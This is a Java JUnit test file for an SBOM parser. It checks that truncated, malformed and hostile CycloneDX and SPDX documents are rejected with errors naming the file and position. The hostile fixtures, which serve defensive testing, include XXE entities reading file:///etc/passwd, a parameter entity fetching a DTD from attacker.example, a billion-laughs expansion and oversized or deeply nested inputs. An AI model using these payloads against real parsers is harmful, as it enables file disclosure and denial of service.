package dev.tandem.sbom;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tandem.input.InputException;
import java.io.IOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.assertj.core.api.AbstractThrowableAssert;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Malformed, truncated and hostile documents: always an InputException naming the file and, where there is one, the position. */
class HostileSbomTest {

    private static final String CDX_JSON_HEAD = "{\"bomFormat\": \"CycloneDX\", \"specVersion\": \"1.6\",\n";
    private static final String CDX_XML_HEAD = "<?xml version=\"1.0\"?>\n<bom xmlns=\"http://cyclonedx.org/schema/bom/1.6\">\n";

    @TempDir
    Path dir;

    @Test
    void truncatedJsonNamesLineAndColumn() throws IOException {
        Path file = write("truncated.json", CDX_JSON_HEAD + "\"components\": [{\"name\": \"a\",");
        fails(file).hasMessageStartingWith(file + ": line 2, column ")
                .hasMessageContaining("end-of-input");
    }

    @Test
    void truncatedXmlNamesLineAndColumn() throws IOException {
        Path file = write("truncated.xml", CDX_XML_HEAD + "<components><component type=\"library\">\n<name>a</name>");
        fails(file).hasMessageStartingWith(file + ": line 4, column 14: malformed XML: Unexpected EOF");
    }

    @Test
    void componentsAsAnObjectIsAStructuralError() throws IOException {
        Path file = write("object.json", CDX_JSON_HEAD + "\"components\": {\"name\": \"a\"}}");
        fails(file).hasMessage(file + ": line 2, column 15, at /components: expected an array, found an object");
    }

    @Test
    void anArrayWhereAStringBelongsIsAnErrorAtItsPointer() throws IOException {
        Path file = write("array-version.json", CDX_JSON_HEAD
                + "\"components\": [\n  {\"name\": \"a\", \"version\": \"1\"},\n  {\"name\": \"b\", \"version\": [\"2\"]}\n]}");
        fails(file).hasMessage(file + ": line 4, column 28, at /components/1/version: expected a string, found an array");
    }

    @Test
    void aComponentThatIsNotAnObjectIsAnError() throws IOException {
        Path file = write("number-component.json", CDX_JSON_HEAD + "\"components\": [{\"name\": \"a\"}, 5]}");
        fails(file).hasMessageContaining("at /components/1: expected an object, found a number");
    }

    @Test
    void numbersAndBooleansWhereStringsBelongAreReadAsText() throws Exception {
        Path file = write("numbers.json", CDX_JSON_HEAD
                + "\"components\": [{\"name\": 42, \"version\": 2.10, \"group\": true}]}");
        Component component = SbomReaders.read(file).components().get(0);
        assertThat(component.name()).isEqualTo("42");
        assertThat(component.version()).isEqualTo("2.10");
        assertThat(component.group()).isEqualTo("true");
    }

    @Test
    void nullForAnOptionalArrayOrObjectMeansAbsent() throws Exception {
        Path file = write("nulls.json", CDX_JSON_HEAD
                + "\"metadata\": {\"component\": null}, \"components\": null, \"dependencies\": null}");
        Sbom sbom = SbomReaders.read(file);
        assertThat(sbom.components()).isEmpty();
        assertThat(sbom.subject()).isEqualTo(Subject.UNKNOWN);
    }

    @Test
    void externalEntityIsRefusedAtTheDoctype() throws IOException {
        Path file = write("xxe.xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE bom [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                + "<bom xmlns=\"http://cyclonedx.org/schema/bom/1.6\"><components><component type=\"library\">"
                + "<name>&xxe;</name></component></components></bom>");
        fails(file).hasMessage(file + ": line 2, column 1: DOCTYPE declarations are not allowed "
                + "(external entities and entity expansion are refused)");
    }

    @Test
    void parameterEntityIsRefusedAtTheDoctype() throws IOException {
        Path file = write("parameter-entity.xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE bom [\n"
                + "  <!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\">\n  %remote;\n]>\n"
                + "<bom xmlns=\"http://cyclonedx.org/schema/bom/1.6\"/>");
        fails(file).hasMessageStartingWith(file + ": line 2, column 1: DOCTYPE");
    }

    @Test
    void billionLaughsIsRefusedBeforeAnyExpansion() throws IOException {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
        for (int i = 1; i <= 9; i++) {
            xml.append(" <!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10))
                    .append("\">\n");
        }
        xml.append("]>\n<bom xmlns=\"http://cyclonedx.org/schema/bom/1.6\"><metadata><component type=\"application\">"
                + "<name>&lol9;</name></component></metadata></bom>");
        Path file = write("billion-laughs.xml", xml.toString());
        fails(file).hasMessageStartingWith(file + ": line 2, column 1: DOCTYPE");
    }

    @Test
    void doctypeHiddenBehindALongCommentIsStillRefused() throws IOException {
        Path file = write("late-doctype.xml", "<?xml version=\"1.0\"?>\n<!-- " + "padding ".repeat(2000) + "-->\n"
                + "<!DOCTYPE bom [<!ENTITY e \"e\">]>\n<bom xmlns=\"http://cyclonedx.org/schema/bom/1.6\"/>");
        fails(file).hasMessageStartingWith(file + ": line 3, column ").hasMessageContaining("DOCTYPE");
    }

    @Test
    void undeclaredEntityReferenceIsAnErrorNotAnEmptyName() throws IOException {
        Path file = write("entity.xml", CDX_XML_HEAD
                + "<components><component type=\"library\"><name>a &amp; b &foo;</name></component></components></bom>");
        fails(file).hasMessageStartingWith(file + ": line 3, column ").hasMessageContaining("foo");
    }

    @Test
    void predefinedAndCharacterEntitiesAreText() throws Exception {
        Path file = write("entities.xml", CDX_XML_HEAD
                + "<components><component type=\"library\"><name>a &amp; b &#x41;</name></component></components></bom>");
        assertThat(SbomReaders.read(file).components().get(0).name()).isEqualTo("a & b A");
    }

    @Test
    void jsonNestedTenThousandDeepIsRefusedWithAPosition() throws IOException {
        Path file = write("deep.json", CDX_JSON_HEAD + "\"components\": " + "[".repeat(10_000) + "]".repeat(10_000) + "}");
        fails(file).hasMessageStartingWith(file + ": line 2, column ").hasMessageContaining("nesting depth");
    }

    @Test
    void nestedComponentsTenThousandDeepAreRefusedWithAPosition() throws IOException {
        Path file = write("deep-components.json", CDX_JSON_HEAD + "\"components\": "
                + "[{\"name\": \"x\", \"components\": ".repeat(10_000) + "[]" + "}]".repeat(10_000) + "}");
        fails(file).hasMessageStartingWith(file + ": line 2, column ").hasMessageContaining("nesting depth");
    }

    @Test
    void xmlNestedTenThousandDeepIsRefusedWithAPosition() throws IOException {
        Path file = write("deep.xml", CDX_XML_HEAD + "<components>" + "<component type=\"library\"><components>".repeat(5_000)
                + "</components></component>".repeat(5_000) + "</components></bom>");
        fails(file).hasMessageStartingWith(file + ": line 3, column ").hasMessageContaining("nested deeper than 200");
    }

    @Test
    void sixtyMegabyteJsonStringIsRefused() throws IOException {
        Path file = dir.resolve("huge.json");
        try (Writer out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            out.write(CDX_JSON_HEAD + "\"components\": [{\"name\": \"");
            writeRepeated(out, 'x', 60L << 20);
            out.write("\"}]}");
        }
        fails(file).hasMessageStartingWith(file + ": line 2, column ").hasMessageContaining("String value length");
    }

    @Test
    void sixtyMegabyteXmlTextIsRefused() throws IOException {
        Path file = dir.resolve("huge.xml");
        try (Writer out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            out.write(CDX_XML_HEAD + "<components><component type=\"library\"><name>");
            writeRepeated(out, 'x', 60L << 20);
            out.write("</name></component></components></bom>");
        }
        fails(file).hasMessageStartingWith(file + ": line 3, column ").hasMessageContaining("longer than");
    }

    @Test
    void emptyAndBlankFilesSayWhatWasExpected() throws IOException {
        Path empty = write("empty.json", "");
        fails(empty).hasMessageStartingWith(empty + ": empty file, expected CycloneDX JSON");
        Path blank = write("blank.xml", "\n  \t\n");
        fails(blank).hasMessageStartingWith(blank + ": empty file");
    }

    @Test
    void binaryGarbageIsAnUnknownFormat() throws IOException {
        Path file = dir.resolve("garbage.bin");
        byte[] bytes = new byte[4096];
        new java.util.Random(7).nextBytes(bytes);
        bytes[0] = (byte) 0x89;
        Files.write(file, bytes);
        fails(file).hasMessageStartingWith(file + ": line 1, column 1: not a recognised SBOM format: expected CycloneDX JSON");
    }

    @Test
    void unknownJsonAndXmlDocumentsSayWhatWasExpected() throws IOException {
        Path json = write("other.json", "\n{\"name\": \"not an sbom\", \"items\": [1, 2]}");
        fails(json).hasMessageStartingWith(json + ": line 2, column 1: JSON document is not a recognised SBOM")
                .hasMessageContaining("\"spdxVersion\"");
        Path xml = write("other.xml", "<?xml version=\"1.0\"?>\n<project xmlns=\"http://maven.apache.org/POM/4.0.0\"/>");
        fails(xml).hasMessageStartingWith(xml + ": line 2, column ")
                .hasMessageContaining("<project> in namespace \"http://maven.apache.org/POM/4.0.0\" is not a CycloneDX bom");
    }

    @Test
    void wrongBomFormatNamesTheValue() {
        Path file = Fixtures.path("cyclonedx-spec/invalid-bomformat-1.6.json");
        fails(file).hasMessage(file + ": line 2, column 16: \"bomFormat\" is \"AnotherFormat\", expected \"CycloneDX\"");
    }

    @Test
    void spdx3IsNamedAsUnsupported() throws IOException {
        Path file = write("spdx3.json", "{\"@context\": \"https://spdx.org/rdf/3.0.1/spdx-context.jsonld\", \"@graph\": []}");
        fails(file).hasMessageContaining("SPDX 3 (JSON-LD) is not supported");
    }

    @Test
    void spdxJsonOfAnotherMajorVersionIsRefused() throws IOException {
        Path file = write("spdx-1.json", "{\n\"spdxVersion\": \"SPDX-1.2\", \"packages\": []}");
        fails(file).hasMessage(file + ": line 2, column 16, at /spdxVersion: expected an SPDX 2.x version such as "
                + "\"SPDX-2.3\", found \"SPDX-1.2\"");
    }

    @Test
    void spdxJsonPackagesMustBeAnArray() throws IOException {
        Path file = write("spdx-packages.json", "{\"spdxVersion\": \"SPDX-2.3\",\n\"packages\": \"glibc\"}");
        fails(file).hasMessage(file + ": line 2, column 13, at /packages: expected an array, found a string");
    }

    @Test
    void tagValueLineWithoutATagNamesTheLine() throws IOException {
        Path file = write("bad.spdx", "SPDXVersion: SPDX-2.3\nPackageName: a\nthis line has no tag\n");
        fails(file).hasMessage(file + ": line 3, column 1: expected a \"Tag: value\" line, found \"this line has no tag\"");
    }

    @Test
    void tagValueUnclosedTextNamesWhereItStarted() throws IOException {
        Path file = write("unclosed.spdx", "SPDXVersion: SPDX-2.3\nPackageName: a\nPackageComment: <text>one\ntwo\n");
        fails(file).hasMessage(file + ": line 3, column 17: <text> value of PackageComment is not closed by </text>");
    }

    @Test
    void tagValueMalformedRelationshipAndExternalRef() throws IOException {
        Path relationship = write("relationship.spdx", "SPDXVersion: SPDX-2.3\nRelationship: SPDXRef-a DEPENDS_ON\n");
        fails(relationship).hasMessageStartingWith(relationship + ": line 2, column 1: expected \"Relationship:");
        Path ref = write("ref.spdx", "SPDXVersion: SPDX-2.3\nPackageName: a\nExternalRef: PACKAGE-MANAGER purl\n");
        fails(ref).hasMessageStartingWith(ref + ": line 3, column 1: expected \"ExternalRef:");
    }

    @Test
    void byteOrderMarkIsSkipped() throws Exception {
        Path file = dir.resolve("bom-prefixed.json");
        byte[] text = (CDX_JSON_HEAD + "\"components\": [{\"name\": \"a\"}]}").getBytes(StandardCharsets.UTF_8);
        byte[] bytes = new byte[text.length + 3];
        bytes[0] = (byte) 0xEF;
        bytes[1] = (byte) 0xBB;
        bytes[2] = (byte) 0xBF;
        System.arraycopy(text, 0, bytes, 3, text.length);
        Files.write(file, bytes);
        assertThat(SbomReaders.read(file).components()).extracting(Component::name).containsExactly("a");
    }

    @Test
    void missingFileAndDirectoryAreInputErrors() {
        Path missing = dir.resolve("missing.json");
        fails(missing).hasMessage(missing + ": file not found");
        // Files are read by dev.tandem.input.InputDocument, the one bounded reader, in its words.
        fails(dir).hasMessage(dir + ": is a directory, expected a file");
    }

    private Path write(String name, String text) throws IOException {
        return Files.writeString(dir.resolve(name), text, StandardCharsets.UTF_8);
    }

    private static void writeRepeated(Writer out, char c, long count) throws IOException {
        char[] chunk = new char[1 << 16];
        java.util.Arrays.fill(chunk, c);
        for (long written = 0; written < count; written += chunk.length) {
            out.write(chunk, 0, (int) Math.min(chunk.length, count - written));
        }
    }

    private static AbstractThrowableAssert<?, ? extends Throwable> fails(Path file) {
        return assertThatThrownBy(() -> SbomReaders.read(file))
                .isInstanceOf(InputException.class)
                .satisfies(e -> assertThat(((InputException) e).source()).isEqualTo(file.toString()));
    }
}
